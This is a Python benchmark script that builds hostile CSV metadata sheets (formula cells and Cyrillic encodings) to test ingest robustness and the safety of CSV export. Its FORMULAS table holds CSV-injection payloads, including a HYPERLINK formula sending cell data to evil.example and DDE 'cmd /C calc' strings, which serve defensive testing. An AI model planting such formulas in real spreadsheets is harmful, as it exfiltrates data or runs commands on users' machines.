"""Hostile metadata sheets, built fresh, and what ingest and the CSV export make of them.

``build(folder)`` writes sheets a team or an adversary may hand over: formula
cells (``=HYPERLINK``, DDE ``+cmd|…``, ``@SUM``, ``-2+3+cmd…``, a leading tab),
Russian and Ukrainian sheets in KOI8-R, KOI8-U, UTF-16 (both byte orders) and
DOS code pages, a KOI8-R sheet too short to tell from cp1251, an unclosed
quote, a second sheet that contradicts the first, and, only when asked, a huge
sheet. ``main()`` ingests them in that order into one temporary case, prints
one line per sheet (accepted or refused, and why), exports the case's tables
as CSV and says whether every exported cell is safe to open in a spreadsheet.
Without the huge sheet it takes a few seconds; with ``--huge-mb 200`` it also
prints the process's peak memory.

Run: ``.venv/bin/python benchmarks/hostile_sheets.py [--huge-mb 200]``
"""

from __future__ import annotations

import argparse
import csv
import io
import itertools
import resource
import tempfile
import time
import zipfile
from pathlib import Path

from callsift.csvsafe import safe_cell
from callsift.errors import InputError
from callsift.export.tables import write_csv
from callsift.ingest.run import IngestReport, ingest_paths
from callsift.ingest.sidecar import SidecarRow, read_sidecar
from callsift.store import CaseStore

__all__ = ["build", "main"]

FORMULAS = {
    "caller": '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
    "receiver": "+cmd|' /C calc'!A0",
    "location": "@SUM(1)",
    "notes": "-2+3+cmd|' /C calc'!A0",
    "Ref": "\t=cmd",
}
RUSSIAN = [
    ("Буча", "Разговор о поставке груза, срочно"),
    ("Ирпень", "Звонил Иванов из Гостомеля"),
    ("Херсон", "Обещали подъехать вечером"),
]
UKRAINIAN = [
    ("Київ", "Розмова про їжу та пальне, терміново"),
    ("Ірпінь", "Євген казав про ґанок біля школи"),
    ("Чернігів", "Обіцяли під'їхати ввечері"),
]
_PLACES = ("Буча", "Ирпень", "Гостомель", "Київ", "Херсон")


def build(folder: Path, huge_mb: int = 0) -> list[Path]:
    """Write the hostile sheets (and the recordings they name) into ``folder``, in ingest order."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "0001.wav").write_bytes(b"RIFF, not audio: a call the formula sheet describes")
    sheets = [
        _write(folder / "formulas.csv", [["file", *FORMULAS], ["0001.wav", *FORMULAS.values()]]),
        _cyrillic(folder / "koi8-r.csv", RUSSIAN, "koi8_r"),
        _cyrillic(folder / "koi8-u.csv", UKRAINIAN, "koi8_u"),
        _cyrillic(folder / "utf-16-le.csv", RUSSIAN, "utf-16-le", b"\xff\xfe"),
        _cyrillic(folder / "utf-16-be.csv", UKRAINIAN, "utf-16-be", b"\xfe\xff"),
        _cyrillic(folder / "cp866.csv", RUSSIAN, "cp866"),
        _cyrillic(folder / "cp1125.csv", UKRAINIAN, "cp1125"),
        _bytes(folder / "koi8-r-too-short.csv", "file,location\r\nshort.wav,БУЧА\r\n", "koi8_r"),
        _bytes(folder / "unclosed-quote.csv", 'file,notes\r\nq.wav,"' + "x" * 300_000, "utf-8"),
        _write(
            folder / "second-opinion.csv",
            [
                ["file", "location", "notes"],
                ["koi8-r-1.wav", *RUSSIAN[0]],  # the same as koi8-r.csv says: no conflict
                ["0001.wav", "Мариуполь", ""],  # not what formulas.csv says: reported
            ],
        ),
    ]
    if huge_mb:
        sheets.append(_huge(folder / f"huge-{huge_mb}mb.csv", huge_mb * 1_000_000))
    return sheets


def _write(path: Path, rows: list[list[str]]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def _cyrillic(path: Path, rows: list[tuple[str, str]], encoding: str, bom: bytes = b"") -> Path:
    text = io.StringIO(newline="")
    writer = csv.writer(text)
    writer.writerow(["file", "location", "notes"])
    writer.writerows(
        (f"{path.stem}-{n}.wav", place, note) for n, (place, note) in enumerate(rows, 1)
    )
    path.write_bytes(bom + text.getvalue().encode(encoding))
    return path


def _bytes(path: Path, text: str, encoding: str) -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def _huge(path: Path, size: int) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as out:
        out.write("file,caller,receiver,started_at,duration_s,location,notes\r\n")
        row = 0
        while out.tell() < size:
            out.write(
                f"day{row % 30}/{row:08d}.wav,+7903{row % 10_000_000:07d},0501234567,"
                f"2022-03-14T18:22:05+03:00,{row % 600}.5,{_PLACES[row % 5]},"
                f"разговор номер {row} о поставке\r\n"
            )
            row += 1
    return path


def _verdict(sheet: Path, report: IngestReport) -> str:
    whole = [f.reason for f in report.failures if f.path == sheet.name]
    rows = [
        f"{f.path.removeprefix(sheet.name).strip(' :')}: {f.reason}"
        for f in report.failures
        if f.path != sheet.name
    ]
    if whole and not report.metadata_rows:
        return f"refused: {whole[0]}"
    line = f"accepted {report.metadata_rows} rows"
    places = [row[1].location for row in _rows(sheet) if not isinstance(row, InputError)]
    if any(places):
        line += f" (places read: {', '.join(p or '-' for p in places[:3])})"
    if rows:
        line += f"; {len(rows)} rows refused, {report.metadata_conflicts} conflicting: {rows[0]}"
    return line + (f"; stopped: {whole[0]}" if whole else "")


def _rows(sheet: Path) -> list[SidecarRow]:
    with open(sheet, "rb") as stream:
        return list(itertools.islice(read_sidecar(sheet.name, stream), 3))


def _exported_cells(store: CaseStore, out: Path) -> tuple[int, int, int]:
    """Cells exported, cells neutralised with a ``'``, cells a spreadsheet would still run."""
    cells = neutralised = dangerous = 0
    with zipfile.ZipFile(write_csv(store, None, out)) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8-sig")
            for row in csv.reader(io.StringIO(text, newline="")):
                cells += len(row)
                neutralised += sum(value.startswith("'") for value in row)
                dangerous += sum(safe_cell(value) != value for value in row)
    return cells, neutralised, dangerous


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n\n")[0])
    parser.add_argument("--huge-mb", type=int, default=0, help="add a generated sheet this big")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "hostile"
        sheets = build(folder, args.huge_mb)
        with CaseStore(Path(tmp) / "case") as case:
            ingest_paths(case, sorted(folder.glob("*.wav")))  # the calls the sheets describe
            for sheet in sheets:
                started = time.perf_counter()
                report = ingest_paths(case, [], [sheet])
                took = time.perf_counter() - started
                size = sheet.stat().st_size
                print(f"{sheet.name} ({size:,} bytes, {took:.1f} s): {_verdict(sheet, report)}")
            cells, neutralised, dangerous = _exported_cells(case, Path(tmp) / "tables.zip")
        print(
            f"export (tables.zip): {cells:,} cells, {neutralised} neutralised with a leading ',"
            f" {dangerous} a spreadsheet would run"
        )
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
        print(f"peak memory of this process: {peak:,.0f} MiB")


if __name__ == "__main__":
    main()
